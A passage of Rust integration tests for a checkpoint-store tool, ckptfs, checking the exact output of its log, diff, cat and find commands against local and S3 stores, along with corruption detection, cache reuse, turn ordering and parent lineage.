//! The review commands (`log`, `diff`, `cat`, `find`) through the real binary, against
//! both kinds of store.
//!
//! Each test is a function taking a [`TestStore`]; `both_stores!` turns it into
//! `review::local::NAME` and `review::s3::NAME`. Most build the same three turns of a
//! workspace ([`three_turns`]), whose changes are known entry by entry, and check the
//! commands' exact output.

use std::ffi::OsStr;
use std::fs;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::MetadataExt;
use std::process::Output as RawOutput;
use std::time::Duration;

use tempfile::TempDir;

use crate::util::mount::Mount;
use crate::util::tree::{chmod, make_dir, random_bytes, symlink, write_file};
use crate::util::{Output, TestStore, ckptfs, describe, temp_dir};

macro_rules! both_stores {
    ($($name:ident),* $(,)?) => {
        mod local {
            $(
                #[test]
                fn $name() {
                    super::$name(&crate::util::TestStore::local());
                }
            )*
        }
        mod s3 {
            $(
                #[test]
                fn $name() {
                    super::$name(&crate::util::TestStore::s3());
                }
            )*
        }
    };
}

mod report;

both_stores!(
    log_lists_each_turn_with_its_changes,
    diff_shows_every_kind_of_change_in_four_formats,
    cat_writes_verified_files_and_refuses_the_rest,
    find_lists_sorted_paths_and_filters_by_glob,
    names_take_prefixes_and_latest_n,
    a_corrupt_checkpoint_is_a_one_line_error,
    cache_dir_is_filled_and_reused_unless_a_mount_holds_it,
    turns_taken_within_one_second_keep_their_order,
    turns_put_at_once_are_listed_by_capture_time,
    log_follows_each_sandbox_by_its_parents,
    prune_deletes_what_no_rule_keeps_and_says_why,
    a_turn_with_an_old_turns_content_becomes_the_newest,
    names_are_printed_as_data,
);

/// More than a second, so that S3 LastModified and file times order the turns.
const CLOCK_TICK: Duration = Duration::from_millis(1200);

// Contents of the workspace in its three turns.
const HELLO_1: &str = "print('hello')\n";
const HELLO_2: &str = "print('hello')\nprint('world')\n";
const RUN_SH: &str = "#!/bin/sh\necho run\n";
const GONE: &str = "soon gone\n";
const THING_FILE: &str = "was a file\n";
const INNER: &str = "inside\n";
const NEW: &str = "new file\n";
const LIB_1: &str = "pub fn answer() -> u32 {\n    42\n}\n";
const LIB_3: &str = "pub fn answer() -> u32 {\n    43\n}\n";
const GUIDE: &str = "# Guide\n";
const DATA_1: &[u8] = b"\x00\x01binary\x00one";
const DATA_2: &[u8] = b"\x00\x02binary\x00two!";
/// A file of its own in the cache (16 KiB and more), unchanged in every turn.
const BLOB_LEN: usize = 100_000;

fn blob() -> Vec<u8> {
    random_bytes(BLOB_LEN, 42)
}

/// A store with three checkpoints of one workspace, oldest first:
/// 1. `blob.bin`, `data.bin`, `gone.txt`, `hello.py`, `link -> hello.py`, `run.sh`
///    (0644), `src/lib.rs`, `thing` (a file);
/// 2. `data.bin` and `hello.py` changed, `gone.txt` removed, `link -> run.sh`, `run.sh`
///    made 0755, `thing` a directory holding `inner.txt`, `new.txt` added;
/// 3. `src/lib.rs` changed, `docs/guide.md` added.
struct Turns {
    work: TempDir,
    /// `(sha256, size, time as ls prints it)`, oldest first.
    turns: Vec<(String, u64, String)>,
}

impl Turns {
    fn sha(&self, turn: usize) -> &str {
        &self.turns[turn].0
    }

    /// The owner of the workspace's files (the test's own user), as `uid:gid`.
    fn owner(&self) -> (u32, u32) {
        let md = fs::metadata(self.work.path()).unwrap();
        (md.uid(), md.gid())
    }
}

fn three_turns(store: &TestStore) -> Turns {
    let work = temp_dir();
    let w = work.path().join("w");
    make_dir(&w);
    chmod(&w, 0o755);
    write_file(&w.join("hello.py"), HELLO_1.as_bytes(), 0o644);
    write_file(&w.join("run.sh"), RUN_SH.as_bytes(), 0o644);
    write_file(&w.join("gone.txt"), GONE.as_bytes(), 0o644);
    write_file(&w.join("thing"), THING_FILE.as_bytes(), 0o644);
    write_file(&w.join("data.bin"), DATA_1, 0o644);
    write_file(&w.join("blob.bin"), &blob(), 0o644);
    write_file(&w.join("src/lib.rs"), LIB_1.as_bytes(), 0o644);
    chmod(&w.join("src"), 0o755);
    symlink("hello.py", &w.join("link"));
    let mut shas = vec![store.put(&w, &[])];

    std::thread::sleep(CLOCK_TICK);
    write_file(&w.join("hello.py"), HELLO_2.as_bytes(), 0o644);
    chmod(&w.join("run.sh"), 0o755);
    fs::remove_file(w.join("gone.txt")).unwrap();
    fs::remove_file(w.join("link")).unwrap();
    symlink("run.sh", &w.join("link"));
    fs::remove_file(w.join("thing")).unwrap();
    write_file(&w.join("thing/inner.txt"), INNER.as_bytes(), 0o644);
    chmod(&w.join("thing"), 0o755);
    write_file(&w.join("data.bin"), DATA_2, 0o644);
    write_file(&w.join("new.txt"), NEW.as_bytes(), 0o644);
    shas.push(store.put(&w, &[]));

    std::thread::sleep(CLOCK_TICK);
    write_file(&w.join("src/lib.rs"), LIB_3.as_bytes(), 0o644);
    write_file(&w.join("docs/guide.md"), GUIDE.as_bytes(), 0o644);
    chmod(&w.join("docs"), 0o755);
    shas.push(store.put(&w, &[]));

    // The times as `ls` prints them, which `log` must repeat.
    let ls = store.cmd("ls", [] as [&str; 0]).success();
    let listed: Vec<(String, u64, String)> = ls
        .lines()
        .iter()
        .map(|line| {
            let fields: Vec<&str> = line.split_whitespace().collect();
            (
                fields[0].to_owned(),
                fields[1].parse().unwrap(),
                fields[2].to_owned(),
            )
        })
        .collect();
    let want: Vec<(String, u64)> = shas.clone();
    let got: Vec<(String, u64)> = listed.iter().map(|(s, n, _)| (s.clone(), *n)).collect();
    assert_eq!(got, want, "ls must list the three turns in order: {ls}");
    Turns {
        work,
        turns: listed,
    }
}

/// `ckptfs SUB STORE ARGS...` with its output as raw bytes.
fn raw(store: &TestStore, sub: &str, args: &[&str]) -> RawOutput {
    let mut cmd = ckptfs();
    cmd.arg(sub).arg(store.url()).args(args);
    let what = describe(&cmd);
    cmd.output()
        .unwrap_or_else(|e| panic!("cannot run `{what}`: {e}"))
}

#[track_caller]
fn stdout_of(out: &Output) -> &str {
    assert!(
        out.stderr.trim().is_empty(),
        "nothing on stderr expected: {out}"
    );
    &out.stdout
}

/// A failure with exactly one line on stderr, which contains `needle`, and nothing on
/// stdout.
#[track_caller]
fn assert_one_line_error(out: Output, needle: &str) {
    let out = out.failure();
    let line = out.one_line_error();
    assert!(
        line.starts_with("ckptfs: error: ") && line.contains(needle),
        "want an error with {needle:?}: {out}"
    );
    assert!(out.stdout.is_empty(), "nothing on stdout expected: {out}");
}

fn lines(text: &[&str]) -> String {
    text.iter().map(|l| format!("{l}\n")).collect()
}

// ---------------------------------------------------------------------------------------

fn log_lists_each_turn_with_its_changes(store: &TestStore) {
    let turns = three_turns(store);
    let line = |i: usize, files: u64, changes: &str, bytes: (usize, usize)| {
        let (sha, size, time) = &turns.turns[i];
        format!(
            "{time}  {}  {size} bytes  {files} files  {changes}  +{} -{} bytes",
            &sha[..12],
            bytes.0,
            bytes.1
        )
    };
    let first_bytes = HELLO_1.len()
        + RUN_SH.len()
        + GONE.len()
        + THING_FILE.len()
        + DATA_1.len()
        + BLOB_LEN
        + LIB_1.len();
    let want = lines(&[
        // Everything is added after nothing: 9 entries, of which `src` is a directory
        // and `link` a symlink.
        &line(0, 7, "+9 ~0 -0", (first_bytes, 0)),
        // data.bin, hello.py, link, run.sh, thing changed; new.txt, thing/inner.txt
        // added; gone.txt removed.
        &line(
            1,
            7,
            "+2 ~5 -1",
            (
                DATA_2.len() + HELLO_2.len() + NEW.len() + INNER.len(),
                DATA_1.len() + HELLO_1.len() + GONE.len() + THING_FILE.len(),
            ),
        ),
        &line(2, 8, "+2 ~1 -0", (LIB_3.len() + GUIDE.len(), LIB_1.len())),
    ]);
    let out = store.cmd("log", [] as [&str; 0]).success();
    assert_eq!(stdout_of(&out), want, "{out}");

    let out = store.cmd("log", ["--json"]).success();
    let json: serde_json::Value = serde_json::from_str(stdout_of(&out))
        .unwrap_or_else(|e| panic!("log --json is not JSON ({e}): {out}"));
    let (sha, size, time) = &turns.turns[1];
    assert_eq!(
        json[1],
        serde_json::json!({
            "sha256": sha,
            "size": size,
            "last_modified": time,
            "entries": 10,
            "files": 7,
            "unpacked_bytes": HELLO_2.len() + RUN_SH.len() + INNER.len() + DATA_2.len()
                + BLOB_LEN + LIB_1.len() + NEW.len(),
            "previous": turns.sha(0),
            "parent": null,
            "compared_with": turns.sha(0),
            "added": 2,
            "modified": 5,
            "removed": 1,
            "bytes_added": DATA_2.len() + HELLO_2.len() + NEW.len() + INNER.len(),
            "bytes_removed": DATA_1.len() + HELLO_1.len() + GONE.len() + THING_FILE.len(),
        }),
        "{out}"
    );
    let items = json.as_array().unwrap();
    assert_eq!(items.len(), 3, "{out}");
    assert_eq!(items[0]["previous"], serde_json::Value::Null, "{out}");
    assert_eq!(items[2]["sha256"], turns.sha(2), "{out}");
    assert_eq!(items[2]["entries"], 12, "{out}");

    // An empty store has an empty log.
    let empty = TestStore::local();
    let out = empty.cmd("log", [] as [&str; 0]).success();
    assert_eq!(stdout_of(&out), "", "{out}");
    let out = empty.cmd("log", ["--json"]).success();
    assert_eq!(stdout_of(&out), "[]\n", "{out}");
}

fn diff_shows_every_kind_of_change_in_four_formats(store: &TestStore) {
    let turns = three_turns(store);
    let (a, b) = (turns.sha(0), turns.sha(1));

    let out = store.cmd("diff", [a, b]).success();
    assert_eq!(
        stdout_of(&out),
        lines(&[
            "M data.bin",
            "D gone.txt",
            "M hello.py",
            "M link",
            "A new.txt",
            "M run.sh",
            "M thing",
            "A thing/inner.txt",
        ]),
        "{out}"
    );
    // The other way round, additions are removals.
    let out = store.cmd("diff", [b, a]).success();
    assert_eq!(
        stdout_of(&out),
        lines(&[
            "M data.bin",
            "A gone.txt",
            "M hello.py",
            "M link",
            "D new.txt",
            "M run.sh",
            "M thing",
            "D thing/inner.txt",
        ]),
        "{out}"
    );
    // A checkpoint against itself: nothing.
    let out = store.cmd("diff", [b, b]).success();
    assert_eq!(stdout_of(&out), "", "{out}");

    let out = store.cmd("diff", [a, b, "--stat"]).success();
    let added = DATA_2.len() + HELLO_2.len() + NEW.len() + INNER.len();
    let removed = DATA_1.len() + HELLO_1.len() + GONE.len() + THING_FILE.len();
    assert_eq!(
        stdout_of(&out),
        format!("2 added, 1 removed, 5 modified; +{added} -{removed} bytes\n"),
        "{out}"
    );

    let out = store.cmd("diff", [a, b, "--json"]).success();
    let json: serde_json::Value = serde_json::from_str(stdout_of(&out))
        .unwrap_or_else(|e| panic!("diff --json is not JSON ({e}): {out}"));
    let (uid, gid) = turns.owner();
    let file = |mode: &str, size: usize| serde_json::json!({"type": "file", "mode": mode, "uid": uid, "gid": gid, "size": size});
    let link = |target: &str| serde_json::json!({"type": "symlink", "mode": "0777", "uid": uid, "gid": gid, "target": target});
    let dir = serde_json::json!({"type": "directory", "mode": "0755", "uid": uid, "gid": gid});
    let null = serde_json::Value::Null;
    let change = |path: &str, change: &str, fields: &[&str], old, new| serde_json::json!({"path": path, "change": change, "fields": fields, "old": old, "new": new});
    assert_eq!(
        json,
        serde_json::json!([
            change(
                "data.bin",
                "modified",
                &["content"],
                file("0644", DATA_1.len()),
                file("0644", DATA_2.len())
            ),
            change(
                "gone.txt",
                "removed",
                &[],
                file("0644", GONE.len()),
                null.clone()
            ),
            change(
                "hello.py",
                "modified",
                &["content"],
                file("0644", HELLO_1.len()),
                file("0644", HELLO_2.len())
            ),
            change(
                "link",
                "modified",
                &["target"],
                link("hello.py"),
                link("run.sh")
            ),
            change(
                "new.txt",
                "added",
                &[],
                null.clone(),
                file("0644", NEW.len())
            ),
            change(
                "run.sh",
                "modified",
                &["mode"],
                file("0644", RUN_SH.len()),
                file("0755", RUN_SH.len())
            ),
            change(
                "thing",
                "modified",
                &["type", "mode"],
                file("0644", THING_FILE.len()),
                dir.clone()
            ),
            change(
                "thing/inner.txt",
                "added",
                &[],
                null.clone(),
                file("0644", INNER.len())
            ),
        ]),
        "{out}"
    );
    let out = store.cmd("diff", [b, b, "--json"]).success();
    assert_eq!(stdout_of(&out), "[]\n", "{out}");

    let out = store.cmd("diff", [a, b, "--patch"]).success();
    assert_eq!(
        stdout_of(&out),
        lines(&[
            "M data.bin",
            "Binary files differ",
            "D gone.txt",
            "--- a/gone.txt",
            "+++ /dev/null",
            "@@ -1 +0,0 @@",
            "-soon gone",
            "M hello.py",
            "--- a/hello.py",
            "+++ b/hello.py",
            "@@ -1 +1,2 @@",
            " print('hello')",
            "+print('world')",
            "M link",
            "target hello.py -> run.sh",
            "A new.txt",
            "--- /dev/null",
            "+++ b/new.txt",
            "@@ -0,0 +1 @@",
            "+new file",
            "M run.sh",
            "mode 0644 -> 0755",
            "M thing",
            "type file -> directory",
            "mode 0644 -> 0755",
            "A thing/inner.txt",
            "--- /dev/null",
            "+++ b/thing/inner.txt",
            "@@ -0,0 +1 @@",
            "+inside",
        ]),
        "{out}"
    );
    // The last turn: one changed line in the middle of a file, a new directory.
    let out = store
        .cmd("diff", ["latest~1", "latest", "--patch"])
        .success();
    assert_eq!(
        stdout_of(&out),
        lines(&[
            "A docs",
            "A docs/guide.md",
            "--- /dev/null",
            "+++ b/docs/guide.md",
            "@@ -0,0 +1 @@",
            "+# Guide",
            "M src/lib.rs",
            "--- a/src/lib.rs",
            "+++ b/src/lib.rs",
            "@@ -1,3 +1,3 @@",
            " pub fn answer() -> u32 {",
            "-    42",
            "+    43",
            " }",
        ]),
        "{out}"
    );

    // One format at a time.
    let out = store.cmd("diff", [a, b, "--stat", "--json"]).failure();
    assert!(out.stdout.is_empty(), "{out}");
}

fn cat_writes_verified_files_and_refuses_the_rest(store: &TestStore) {
    let turns = three_turns(store);
    let (first, second) = (turns.sha(0), turns.sha(1));

    let out = store.cmd("cat", [first, "hello.py"]).success();
    assert_eq!(stdout_of(&out), HELLO_1, "{out}");
    let out = store.cmd("cat", [second, "/thing/inner.txt"]).success();
    assert_eq!(stdout_of(&out), INNER, "{out}");

    // Binary, byte for byte: a small (packed) file and a large one (a file of its own).
    for (turn, path, want) in [
        (first, "data.bin", DATA_1.to_vec()),
        (second, "data.bin", DATA_2.to_vec()),
        (second, "blob.bin", blob()),
    ] {
        let out = raw(store, "cat", &[turn, path]);
        assert!(out.status.success(), "cat {path}: {out:?}");
        assert!(out.stderr.is_empty(), "cat {path}: {out:?}");
        assert!(
            out.stdout == want,
            "cat {path} differs ({} bytes)",
            out.stdout.len()
        );
    }

    assert_one_line_error(store.cmd("cat", [first, "src"]), "src is a directory");
    assert_one_line_error(store.cmd("cat", [first, "/"]), "/ is a directory");
    assert_one_line_error(
        store.cmd("cat", [first, "nope.txt"]),
        "nope.txt: no such file or directory",
    );
    assert_one_line_error(
        store.cmd("cat", [first, "thing/inner.txt"]),
        "thing/inner.txt: thing is not a directory",
    );
    assert_one_line_error(
        store.cmd("cat", [second, "link"]),
        "link is a symbolic link to run.sh",
    );
    assert_one_line_error(
        store.cmd("cat", [first, "link"]),
        "link is a symbolic link to hello.py",
    );
    assert_one_line_error(
        store.cmd("cat", [second, "../w/hello.py"]),
        "`..` is not allowed",
    );
}

fn find_lists_sorted_paths_and_filters_by_glob(store: &TestStore) {
    let turns = three_turns(store);
    let last = turns.sha(2);

    let out = store.cmd("find", [last]).success();
    assert_eq!(
        stdout_of(&out),
        lines(&[
            "blob.bin",
            "data.bin",
            "docs",
            "docs/guide.md",
            "hello.py",
            "link",
            "new.txt",
            "run.sh",
            "src",
            "src/lib.rs",
            "thing",
            "thing/inner.txt",
        ]),
        "{out}"
    );
    // Without `/`, against names at any depth.
    let out = store.cmd("find", [last, "*.txt"]).success();
    assert_eq!(
        stdout_of(&out),
        lines(&["new.txt", "thing/inner.txt"]),
        "{out}"
    );
    let out = store.cmd("find", [last, "*.{rs,md}"]).success();
    assert_eq!(
        stdout_of(&out),
        lines(&["docs/guide.md", "src/lib.rs"]),
        "{out}"
    );
    // With `/`, against whole paths; `*` stays within a directory, `**` does not.
    let out = store.cmd("find", [last, "thing/*"]).success();
    assert_eq!(stdout_of(&out), lines(&["thing/inner.txt"]), "{out}");
    let out = store.cmd("find", [last, "/*.py"]).success();
    assert_eq!(stdout_of(&out), lines(&["hello.py"]), "{out}");
    let out = store.cmd("find", [last, "*/*"]).success();
    assert_eq!(
        stdout_of(&out),
        lines(&["docs/guide.md", "src/lib.rs", "thing/inner.txt"]),
        "{out}"
    );
    let out = store.cmd("find", [last, "**/guide.md"]).success();
    assert_eq!(stdout_of(&out), lines(&["docs/guide.md"]), "{out}");
    let out = store.cmd("find", [last, "nothing*"]).success();
    assert_eq!(stdout_of(&out), "", "{out}");
    // NUL-terminated, for xargs -0.
    let out = store.cmd("find", [last, "-0", "*.rs"]).success();
    assert_eq!(stdout_of(&out), "src/lib.rs\0", "{out}");
    // An older turn: `thing` was a file, `docs` did not exist.
    let out = store.cmd("find", [turns.sha(0), "th*"]).success();
    assert_eq!(stdout_of(&out), lines(&["thing"]), "{out}");

    assert_one_line_error(store.cmd("find", [last, "[abc"]), "bad PATTERN");
}

fn names_take_prefixes_and_latest_n(store: &TestStore) {
    let turns = three_turns(store);
    let by_sha = store.cmd("diff", [turns.sha(1), turns.sha(2)]).success();
    assert!(!by_sha.stdout.is_empty(), "{by_sha}");
    for (a, b) in [
        ("latest~1", "latest"),
        (&turns.sha(1)[..8], "latest~0"),
        ("latest~", &turns.sha(2)[..10]),
    ] {
        let out = store.cmd("diff", [a, b]).success();
        assert_eq!(out.stdout, by_sha.stdout, "diff {a} {b}: {out}");
    }
    let out = store.cmd("cat", ["latest~2", "hello.py"]).success();
    assert_eq!(stdout_of(&out), HELLO_1, "{out}");
    let out = store.cmd("cat", ["latest", "src/lib.rs"]).success();
    assert_eq!(stdout_of(&out), LIB_3, "{out}");
    let out = store.cmd("find", ["latest~1", "gone*"]).success();
    assert_eq!(stdout_of(&out), "", "gone.txt went in turn 2: {out}");
    let prefix = format!("{}.tar.gz", turns.sha(0));
    let out = store.cmd("find", [prefix.as_str(), "gone*"]).success();
    assert_eq!(stdout_of(&out), lines(&["gone.txt"]), "{out}");

    assert_one_line_error(
        store.cmd("cat", ["latest~3", "hello.py"]),
        "latest~3: the store has 3 checkpoints (latest~2 is the oldest)",
    );
    assert_one_line_error(
        store.cmd("diff", ["latest", "HEAD"]),
        "\"HEAD\" is not a checkpoint name",
    );
    // A prefix no checkpoint has (the three digests differ from it in the first digit).
    let unused = (0..16)
        .map(|d| format!("{d:x}"))
        .find(|d| {
            turns
                .turns
                .iter()
                .all(|(sha, _, _)| !sha.starts_with(d.as_str()))
        })
        .unwrap();
    assert_one_line_error(
        store.cmd("find", [unused.as_str()]),
        "no checkpoint matches",
    );
}

fn a_corrupt_checkpoint_is_a_one_line_error(store: &TestStore) {
    let turns = three_turns(store);
    let (first, second, third) = (turns.sha(0), turns.sha(1), turns.sha(2));
    // Same length, metadata kept: only the bytes' digest tells.
    let size = turns.turns[1].1;
    let mut bytes = store.object_bytes(second).unwrap();
    let mid = bytes.len() / 2;
    for b in &mut bytes[mid..mid + 16] {
        *b ^= 0x5a;
    }
    store.write_object_bytes(second, &bytes, Some((second, size)));
    // Overwriting gave the second turn the store's time of now, which may be a later
    // second than the third turn's: capture it again (same bytes, so the store copies
    // it onto itself) to keep the turns in their order whatever the clock did.
    std::thread::sleep(CLOCK_TICK);
    assert_eq!(store.put(&turns.work.path().join("w"), &[]).0, third);

    let temp = temp_dir();
    let temp_arg = temp.path().to_str().unwrap();
    let mismatch = "Checkpoint checksum mismatch";
    // log shows the good turns around the damaged one, says what to do, exits 1
    // (issue 27, item 6); the third turn is compared with the first.
    let out = store.cmd("log", ["--temp-dir", temp_arg]);
    assert_eq!(out.status.code(), Some(1), "{out}");
    let shown: Vec<&str> = out.stdout.lines().collect();
    assert_eq!(shown.len(), 3, "{out}");
    assert!(
        shown[1].contains(&second[..12]) && shown[1].contains(&format!("FAILED: {mismatch}")),
        "{out}"
    );
    assert!(
        !shown[0].contains("FAILED") && !shown[2].contains("FAILED"),
        "{out}"
    );
    assert!(out.stderr.contains("ckptfs verify"), "{out}");
    let out = store.cmd("log", ["--json"]);
    assert_eq!(out.status.code(), Some(1), "{out}");
    let rows: serde_json::Value = serde_json::from_str(&out.stdout).expect("JSON");
    assert!(
        rows[1]["failed"].as_str().unwrap().contains(mismatch),
        "{out}"
    );
    assert_eq!(rows[1]["files"], serde_json::Value::Null);
    assert_eq!(rows[2]["compared_with"].as_str(), Some(first), "{out}");
    for format in [None, Some("--stat"), Some("--json"), Some("--patch")] {
        let mut args = vec![first, second];
        args.extend(format);
        assert_one_line_error(store.cmd("diff", &args), mismatch);
    }
    assert_one_line_error(store.cmd("diff", [second, third]), mismatch);
    assert_one_line_error(store.cmd("cat", [second, "hello.py"]), mismatch);
    assert_one_line_error(store.cmd("find", [second]), mismatch);
    // The others still read, and no temporary cache is left behind.
    let out = store.cmd("cat", [first, "hello.py"]).success();
    assert_eq!(stdout_of(&out), HELLO_1, "{out}");
    assert_eq!(
        fs::read_dir(temp.path()).unwrap().count(),
        0,
        "the temporary cache was left in {}",
        temp.path().display()
    );
}

fn cache_dir_is_filled_and_reused_unless_a_mount_holds_it(store: &TestStore) {
    let turns = three_turns(store);
    let last = turns.sha(2);
    let work = temp_dir();
    let cache = work.path().join("cache");
    let cache_arg = cache.to_str().unwrap();
    let entry = cache.join("checkpoints").join(last);

    // While a mount holds the cache directory: a temporary cache, with a note.
    {
        let _mount = Mount::new(store).cache_dir(&cache).start();
        let temp = work.path().join("temp");
        fs::create_dir(&temp).unwrap();
        let out = store
            .cmd(
                "cat",
                [
                    "latest",
                    "src/lib.rs",
                    "--cache-dir",
                    cache_arg,
                    "--temp-dir",
                    temp.to_str().unwrap(),
                ],
            )
            .success();
        assert_eq!(out.stdout, LIB_3, "{out}");
        let note = out.one_line_error();
        assert!(
            note.starts_with("note: the cache directory") && note.contains("in use"),
            "{out}"
        );
        assert!(!entry.exists(), "the mount's cache was written to: {out}");
        assert_eq!(
            fs::read_dir(&temp).unwrap().count(),
            0,
            "temporary cache left"
        );
    }

    // Once the mount is gone, the command fills the cache directory...
    let out = store
        .cmd("find", ["latest", "*.md", "--cache-dir", cache_arg])
        .success();
    assert_eq!(stdout_of(&out), lines(&["docs/guide.md"]), "{out}");
    assert!(entry.is_dir(), "{} was not cached", entry.display());

    // ... and reuses it: with the object damaged in the store, the cached (and checked)
    // copy still reads, while a command without the cache reports the damage.
    let size = turns.turns[2].1;
    let mut bytes = store.object_bytes(last).unwrap();
    let mid = bytes.len() / 2;
    bytes[mid] ^= 0xff;
    store.write_object_bytes(last, &bytes, Some((last, size)));
    let out = store
        .cmd("cat", [last, "docs/guide.md", "--cache-dir", cache_arg])
        .success();
    assert_eq!(stdout_of(&out), GUIDE, "{out}");
    assert_one_line_error(
        store.cmd("cat", [last, "docs/guide.md"]),
        "Checkpoint checksum mismatch",
    );

    // A damaged cache entry is not served: it is fetched again (and now fails), with a
    // warning that says why.
    let pack = entry.join("pack");
    let mut packed = fs::read(&pack).unwrap();
    packed[0] ^= 0xff;
    fs::write(&pack, &packed).unwrap();
    let out = store
        .cmd("cat", [last, "docs/guide.md", "--cache-dir", cache_arg])
        .failure();
    assert!(out.stdout.is_empty(), "{out}");
    assert!(
        out.stderr.contains("cache entry is damaged")
            && out.stderr.contains("Checkpoint checksum mismatch"),
        "{out}"
    );
}

/// Six turns of workspace `w` (in the returned directory) put in a loop, file `f`
/// saying `turn N`; their digests in order.
fn six_turns(store: &TestStore) -> (TempDir, Vec<String>) {
    let work = temp_dir();
    let w = work.path().join("w");
    make_dir(&w);
    let shas = (1..=6)
        .map(|turn| {
            write_file(&w.join("f"), format!("turn {turn}\n").as_bytes(), 0o644);
            store.put(&w, &[]).0
        })
        .collect();
    (work, shas)
}

/// Six turns put in a loop, several within one second (S3 gives whole seconds, and
/// the digests order them at random): `ls`, `latest~N`, `cat` and a mount's `latest`
/// and `by-time/` give the order they were taken in.
fn turns_taken_within_one_second_keep_their_order(store: &TestStore) {
    let (_work, shas) = six_turns(store);
    let ls = store.cmd("ls", [] as [&str; 0]).success();
    let listed: Vec<Vec<&str>> = ls
        .lines()
        .iter()
        .map(|l| l.split_whitespace().collect())
        .collect();
    let order: Vec<&str> = listed.iter().map(|fields| fields[0]).collect();
    assert_eq!(
        order, shas,
        "ls lists the turns as they were taken:\n{}",
        ls.stdout
    );
    assert!(
        listed.windows(2).any(|pair| pair[0][2] == pair[1][2]),
        "no two turns share a second, so the order was not put to the test:\n{}",
        ls.stdout
    );
    for (n, want) in [(0, "turn 6\n"), (1, "turn 5\n"), (5, "turn 1\n")] {
        let name = format!("latest~{n}");
        let out = store.cmd("cat", [name.as_str(), "f"]).success();
        assert_eq!(out.stdout, want, "cat {name} f");
    }

    let mount = Mount::new(store).start();
    assert_eq!(
        fs::read_link(mount.join("latest")).unwrap(),
        std::path::PathBuf::from(&shas[5])
    );
    assert_eq!(
        fs::read_to_string(mount.join("latest/f")).unwrap(),
        "turn 6\n"
    );
    let mut by_time: Vec<String> = fs::read_dir(mount.join("by-time"))
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    by_time.sort();
    let targets: Vec<String> = by_time
        .iter()
        .map(|name| {
            let link = fs::read_link(mount.join("by-time").join(name)).unwrap();
            link.to_str().unwrap().trim_start_matches("../").to_owned()
        })
        .collect();
    assert_eq!(targets, shas, "by-time/ in name order: {by_time:?}");
}

/// Two writers putting at the same moment (two replicas): the listing follows the
/// capture times the objects carry.
fn turns_put_at_once_are_listed_by_capture_time(store: &TestStore) {
    let work = temp_dir();
    let dirs: Vec<_> = (0..4)
        .map(|n| {
            let dir = work.path().join(format!("replica-{n}"));
            make_dir(&dir);
            write_file(&dir.join("f"), format!("replica {n}\n").as_bytes(), 0o644);
            dir
        })
        .collect();
    let shas: Vec<String> = std::thread::scope(|scope| {
        let puts: Vec<_> = dirs
            .iter()
            .map(|dir| scope.spawn(move || store.put(dir, &[]).0))
            .collect();
        puts.into_iter().map(|p| p.join().unwrap()).collect()
    });
    let ls = store.cmd("ls", [] as [&str; 0]).success();
    let order: Vec<String> = ls
        .lines()
        .iter()
        .map(|l| l.split_whitespace().next().unwrap().to_owned())
        .collect();
    let mut by_capture: Vec<(String, String, String)> = shas
        .iter()
        .map(|sha| {
            let listed = ls
                .lines()
                .into_iter()
                .find(|l| l.starts_with(sha.as_str()))
                .unwrap();
            let second = listed.split_whitespace().nth(2).unwrap().to_owned();
            let captured = store.object_meta(sha).and_then(|m| m.captured);
            (second, captured.expect("a capture time"), sha.clone())
        })
        .collect();
    by_capture.sort();
    let want: Vec<String> = by_capture.into_iter().map(|(_, _, sha)| sha).collect();
    assert_eq!(order, want, "ls:\n{}", ls.stdout);
}

/// Two sandboxes writing one prefix, their turns interleaved in time: `put --parent`
/// records where each turn came from, `log` counts changes from the parent (and
/// says so), and `log --lineage` follows one sandbox's chain apart.
fn log_follows_each_sandbox_by_its_parents(store: &TestStore) {
    let work = temp_dir();
    let (a, b) = (work.path().join("a"), work.path().join("b"));
    make_dir(&a);
    make_dir(&b);
    let put = |dir: &std::path::Path, file: &str, text: &str, parent: Option<&str>| {
        write_file(&dir.join(file), text.as_bytes(), 0o644);
        let args: Vec<&str> = parent.map(|p| vec!["--parent", p]).unwrap_or_default();
        store.put(dir, &args).0
    };
    let a1 = put(&a, "a.txt", "a 1\n", None);
    let b1 = put(&b, "b.txt", "b 1\n", None);
    let a2 = put(&a, "a.txt", "a 2\n", Some(&a1));
    let b2 = put(&b, "b.txt", "b 2\n", Some("latest~1"));
    let a3 = put(&a, "a.txt", "a 3\n", Some(&a2[..12]));

    let log = store.cmd("log", [] as [&str; 0]).success();
    let line_of = |sha: &str| -> String {
        let short = &sha[..12];
        let lines = log.lines();
        let line = lines.iter().find(|l| l.contains(short));
        line.unwrap_or_else(|| panic!("{short} in log:\n{}", log.stdout))
            .to_string()
    };
    assert_eq!(log.lines().len(), 5, "{}", log.stdout);
    assert!(!line_of(&b1).contains("parent"), "{}", log.stdout);
    for (turn, parent) in [(&a2, &a1), (&b2, &b1), (&a3, &a2)] {
        let line = line_of(turn);
        assert!(
            line.contains("+0 ~1 -0")
                && line.ends_with(&format!("parent {} (from metadata)", &parent[..12])),
            "{turn} is one change from its parent {parent}: {line}"
        );
    }
    let json: serde_json::Value =
        serde_json::from_str(&store.cmd("log", ["--json"]).success().stdout).unwrap();
    let a2_row = json
        .as_array()
        .unwrap()
        .iter()
        .find(|row| row["sha256"] == serde_json::json!(a2))
        .unwrap();
    assert_eq!(a2_row["parent"], serde_json::json!(a1));
    assert_eq!(a2_row["compared_with"], serde_json::json!(a1));
    assert_eq!(a2_row["previous"], serde_json::json!(b1));

    let lineage = store.cmd("log", ["--lineage", &a3]).success();
    let shown: Vec<&str> = lineage
        .lines()
        .iter()
        .map(|l| l.split_whitespace().nth(1).unwrap())
        .collect();
    assert_eq!(
        shown,
        [&a1[..12], &a2[..12], &a3[..12]],
        "{}",
        lineage.stdout
    );

    let missing = "0".repeat(64);
    let refused = store.cmd("put", [a.to_str().unwrap(), "--parent", &missing]);
    assert_one_line_error(refused, "is not in");
}

/// `prune`: a dry run deletes nothing and prints each decision; the grace period
/// keeps young checkpoints whatever the rules say; a real run deletes what no rule
/// keeps, `verify` is clean after it, and a running mount drops the deleted ones at
/// its next refresh while the rest still read; `--keep-lineage` keeps claimed parents.
fn prune_deletes_what_no_rule_keeps_and_says_why(store: &TestStore) {
    let (work, shas) = six_turns(store);
    let w = work.path().join("w");
    let listed = || -> Vec<String> {
        let ls = store.cmd("ls", [] as [&str; 0]).success();
        ls.lines()
            .iter()
            .map(|l| l.split_whitespace().next().unwrap().to_owned())
            .collect()
    };
    // `VERB  SHORT  TIME  [REASONS]`, fields two spaces apart.
    let decisions = |out: &Output| -> Vec<(String, String)> {
        out.lines()
            .iter()
            .map(|l| {
